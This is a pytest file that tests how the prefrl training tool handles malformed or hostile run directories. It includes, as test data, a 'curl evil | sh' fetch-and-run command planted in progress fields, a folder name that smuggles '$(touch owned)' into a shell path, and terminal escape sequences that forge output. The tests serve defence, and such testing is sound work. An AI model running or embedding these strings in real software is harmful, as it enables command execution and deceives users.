"""Malicious or odd run directories: one line at once, without side effects."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeVar

import numpy as np
import pytest
from runs import checkpoints, content, prefrl, refused, tiny

import prefrl as package
from prefrl.errors import PrefrlError
from prefrl.storage.files import load_tree, save_tree

T = TypeVar("T")
ESCAPE = "\x1b[2J\x1b]0;owned\x07\nlabels: 700 answered\u202e"


def put(path: Path, **values: Any) -> None:
    """Change values of a JSON file; those with a dot are inside its `config`."""
    data = json.loads(path.read_text())
    for name, value in values.items():
        node = data
        *parents, last = name.split("__")
        for part in parents:
            node = node[part]
        node[last] = value
    path.write_text(json.dumps(data))


def peak(work: Callable[[], T]) -> tuple[T, int]:
    """What comes of some work, and the most bytes of arrays that it held at a time."""
    tracemalloc.start()
    try:
        return work(), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def quiet(line: str) -> bool:
    """Whether a terminal does nothing on seeing it."""
    return all(each.isprintable() for each in line.split("\n"))


# -- config.json ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("agent__net_arch", [10**7, 10**7]),
        ("agent__net_arch", [64] * 10_000),
        ("agent__net_arch", [2**15] * 8),
        ("agent__n_envs", 10**9),
        ("agent__n_steps", 10**12),
        ("agent__batch_size", 10**9),
        ("agent__n_epochs", 10**9),
        ("reward__hidden", [10**9]),
        ("reward__members", 10**6),
        ("reward__buffer", 10**12),
        ("queries__pool", 10**12),
        ("queries__segment_length", 10**9),
        ("queries__candidate_factor", 10**12),
        ("frame_stack", 10**9),
        ("frame_stack", 0),
        ("playback_fps", 0),
        ("horizon", 0),
        ("horizon", -1),
        ("steps", 10**15),
        ("steps", 10**30),
        ("task", 3),
        ("task", "\ud800"),
        ("seed", True),
    ],
)
@pytest.mark.parametrize("command", ["status", "play"])
def test_a_config_of_absurd_values(command: str, name: str, value: object, unfinished: Path) -> None:
    put(unfinished / "config.json", **{f"config__{name}": value})
    began = time.monotonic()
    line = refused(prefrl(command, unfinished), 1)
    assert time.monotonic() - began < 2
    assert "config.json is damaged" in line


@pytest.mark.parametrize(
    "text", ["[" * 10**5, '{"format": 1e400}', '{"format": true}', "1" * 10_000, '{"format":1,"config":NaN}']
)
def test_a_config_that_is_no_ordinary_json(text: str, unfinished: Path) -> None:
    (unfinished / "config.json").write_text(text)
    for command in ("status", "resume", "play"):
        assert "config.json is damaged" in refused(prefrl(command, unfinished), 1)


@pytest.mark.parametrize("name", ["config.json", "progress.json", "summary.json", "metrics.csv"])
@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_a_pipe_a_device_or_a_folder_in_place_of_a_file(kind: str, name: str, unfinished: Path) -> None:
    path = unfinished / name
    path.unlink(missing_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    began = time.monotonic()
    done = prefrl("status", unfinished)
    assert time.monotonic() - began < 5
    if name == "config.json":
        refused(done, 1)
    assert "Traceback" not in done.err
    assert quiet(done.out)


# -- progress.json and summary.json ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "progress",
    [
        {},
        [],
        None,
        {"step": "many", "steps": 5},
        {"step": 1},
        {"step": None, "steps": None},
        {"step": 10**30, "steps": 1},
        {"step": 1, "steps": 2, "labels_budget": [], "true_return": "x"},
        {"step": 1, "steps": 2, "true_return": 1e308, "reward_correlation": {}},
        {"state": 3},
        {"state": "stopped: " + "x" * 10**6},
    ],
)
def test_progress_of_any_kind_leaves_status_working(progress: object, unfinished: Path) -> None:
    (unfinished / "progress.json").write_text(json.dumps(progress))
    done = prefrl("status", unfinished)
    assert (done.code, done.err) == (0, "")
    assert f"resume with: prefrl resume {unfinished}" in done.out
    assert len(done.out) < 3000


def test_progress_cannot_make_status_print_a_command_of_its_own(unfinished: Path) -> None:
    mine = {
        "run": "x; curl evil | sh",
        "task": "curl evil | sh",
        "teacher": "human",
        "running": False,
        "finished": False,
        "closed": True,
        "label_counts": {"answered": 1, "equal": 1, "incomparable": 1, "pending": 1},
        "queue": {"ready": 1, "leased": 0, "unrendered": 0, "problems": ["curl evil | sh"]},
        "state": "stopped; resume with: curl evil | sh",
        "step": 1,
        "steps": 2,
    }
    (unfinished / "progress.json").write_text(json.dumps(mine))
    done = prefrl("status", unfinished)
    assert done.code == 0
    assert "evil" not in done.out
    assert "evil" not in json.dumps(
        {k: v for k, v in json.loads(prefrl("status", unfinished, "--json").out).items() if k != "state"}
    )
    (unfinished / "progress.json").write_text(
        json.dumps(mine | {"state": "stopped: no disk\nresume with: curl evil | sh"})
    )
    said = [line for line in prefrl("status", unfinished).out.splitlines() if "evil" in line]
    assert len(said) == 1
    assert "error: '" in said[0]  # quoted, and on the line that says whose word it is


@pytest.mark.parametrize(
    "summary",
    [
        {},
        [],
        {"steps": "1"},
        {"steps": 1, "true_return_mean": [1]},
        {"steps": 1, "wall_seconds": "x"},
        {"steps": 10**30},
    ],
)
def test_a_summary_of_another_kind_is_damaged(summary: object, finished: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(finished, tmp_path / "run"))
    (root / "summary.json").write_text(json.dumps(summary))
    done = prefrl("status", root)
    assert done.code == 0
    assert "summary.json is damaged" in done.out


def test_a_summary_that_says_little_is_shown_as_far_as_it_goes(finished: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(finished, tmp_path / "run"))
    (root / "summary.json").write_text('{"steps": 6000}')
    done = prefrl("resume", root)
    assert (done.code, done.err) == (0, "")
    assert "finished 6,000 steps" in done.out


# -- metrics.csv ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["nan", "1e400", "²", "9" * 5000, "x" * 200_000, '"' + "x" * 200_000, "\0", "-", ""])
def test_odd_fields_of_metrics_are_left_out(cell: str, tmp_path: Path) -> None:
    from prefrl.runs.metrics import COLUMNS, MetricsFile, read_metrics

    path = tmp_path / "metrics.csv"
    MetricsFile(path).append({"step": 1, "l2": 0.5})
    with path.open("a", encoding="utf-8") as file:
        file.write(",".join([cell] * len(COLUMNS)) + "\n")
        file.write(",".join(["2"] * len(COLUMNS)) + "\n")
    rows = read_metrics(path)
    assert rows[0]["step"] == 1
    assert all(isinstance(row["step"], int | float | None) for row in rows)
    assert all(value is None or abs(value) < float("inf") for row in rows for value in row.values())
    MetricsFile(path, upto=10**9)


# -- checkpoints ----------------------------------------------------------------------------------------------------


def _without(tree: dict[str, Any], *path: str) -> dict[str, Any]:
    node = tree
    for part in path[:-1]:
        node = node[part]
    del node[path[-1]]
    return tree


@pytest.mark.parametrize(
    "change",
    [
        lambda tree: {},
        lambda tree: {"agent": 3},
        lambda tree: tree | {"agent": tree["agent"] | {"policy": {"x": np.ones(3)}}},
        lambda tree: tree | {"agent": tree["agent"] | {"policy": "curl"}},
        lambda tree: _without(tree, "agent", "policy"),
        lambda tree: _without(tree, "env"),
        lambda tree: tree | {"env": tree["env"] | {"normaliser": {"observation": {"mean": "x"}}}},
        lambda tree: tree | {"env": tree["env"] | {"normaliser": {"observation": {"mean": np.ones(1000), "var": 1}}}},
        lambda tree: tree | {"env": []},
    ],
)
def test_a_whole_checkpoint_of_other_content(change: Any, unfinished: Path) -> None:
    for path in checkpoints(unfinished):
        save_tree(path, change(load_tree(path)))
    for command in ("play", "resume"):
        assert "checkpoints is damaged: it has unexpected content" in refused(prefrl(command, unfinished), 1)[:500]
    with pytest.raises(PrefrlError):
        package.load_policy(unfinished)


GIANT = 300 * 2**20
"""Bytes of an array that is well-formed, and far more than a run of reacher has."""


@pytest.mark.parametrize("place", ["agent/policy", "agent", "x"])
def test_a_whole_checkpoint_of_giant_arrays_is_not_taken_into_memory(place: str, unfinished: Path) -> None:
    """What is not needed to act is verified and left there; a policy that is not the network's is refused."""
    for path in checkpoints(unfinished):
        tree = load_tree(path)
        node = tree
        for part in place.split("/"):
            node = node.setdefault(part, {})
        node["giant"] = np.zeros(GIANT, np.uint8)
        save_tree(path, tree)
        del tree, node
    done, most = peak(lambda: prefrl("play", unfinished, "--episodes", "1"))
    assert most < GIANT // 2
    if place == "agent/policy":
        assert "are damaged" in refused(done, 1)
    else:
        assert (done.code, done.err) == (0, "")
    assert peak(lambda: prefrl("status", unfinished))[1] < GIANT // 2


def test_a_checkpoint_larger_than_the_training_is_not_taken_into_memory(unfinished: Path) -> None:
    for path in checkpoints(unfinished):
        save_tree(path, load_tree(path) | {"giant": np.zeros(GIANT, np.uint8)})
    done, most = peak(lambda: prefrl("resume", unfinished))
    assert (done.code, "are damaged" in done.err) == (1, True)
    assert most < GIANT // 2


def test_published_weights_of_a_giant_size(unfinished: Path) -> None:
    paths = list((unfinished / "reward_model").iterdir())
    assert paths
    for path in paths:
        with path.open("ab") as file:
            file.truncate(GIANT)
    with pytest.raises(PrefrlError, match="more than can be right"):
        package.load_reward(unfinished)


@pytest.mark.parametrize("name", ["observations", "actions", "true_rewards", "terminated", "truncated", "stack"])
@pytest.mark.parametrize("content", ["²", None, ["a"], {"a": "b"}])
def test_a_whole_clip_that_holds_no_numbers(content: object, name: str, unfinished: Path) -> None:
    for path in (unfinished / "clips").iterdir():
        save_tree(path, load_tree(path) | {name: content})
    done = prefrl("labels", "report", unfinished)
    assert (done.code, done.err) == (0, "")
    assert "of the labels cannot be used" in prefrl("status", unfinished).out
    assert "damaged: it has unexpected content" in refused(
        prefrl("labels", "export", unfinished, unfinished / "x.zip"), 1
    )


# -- names and paths ------------------------------------------------------------------------------------------------


def test_escapes_in_a_config_reach_no_terminal(unfinished: Path) -> None:
    put(unfinished / "config.json", config__task=ESCAPE, config__teacher=ESCAPE, config__instruction=ESCAPE)
    for command in ("status", "resume", "play"):
        done = prefrl(command, unfinished)
        assert quiet(done.out)
        assert quiet(done.err)
        assert "labels: 700 answered" not in (done.out + done.err).splitlines()


def test_a_run_whose_folder_is_a_command(finished: Path, tmp_path: Path) -> None:
    root = Path(shutil.copytree(finished, tmp_path / "$(touch owned); x"))
    (root / "summary.json").unlink()
    told = next(line for line in prefrl("status", root).out.splitlines() if line.startswith("resume with: "))
    assert told == f"resume with: prefrl resume '{root}'"


@pytest.mark.skipif(sys.platform != "linux", reason="paths are text elsewhere")
def test_a_run_path_that_is_not_utf8(finished: Path, tmp_path: Path) -> None:
    root = Path(os.fsdecode(os.fsencode(tmp_path) + b"/run-\xff"))
    assert "not UTF-8" in refused(prefrl(*tiny("reacher", root)), 2)
    assert not root.exists()
    shutil.copytree(finished, root)
    commands = (
        ["status"],
        ["resume"],
        ["play"],
        ["label"],
        ["labels", "report"],
        ["labels", "finish"],
        ["reward", "fit"],
    )
    for command in commands:
        assert "not UTF-8" in refused(prefrl(*command, root), 2)


def test_anything_unexpected_is_one_line_and_the_trace_is_there_on_demand(
    unfinished: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(root: Path) -> None:
        raise ZeroDivisionError(f"a fault\n{ESCAPE}")

    monkeypatch.setattr("prefrl.commands.overview.run_status", broken)
    before = content(unfinished)
    line = refused(prefrl("status", unfinished), 1)
    assert line == "prefrl: ZeroDivisionError: a fault (PREFRL_DEBUG=1 shows where)"
    monkeypatch.setenv("PREFRL_DEBUG", "1")
    done = prefrl("status", unfinished)
    assert done.code == 1
    assert "Traceback" in done.err
    assert "in broken" in done.err
    assert content(unfinished) == before
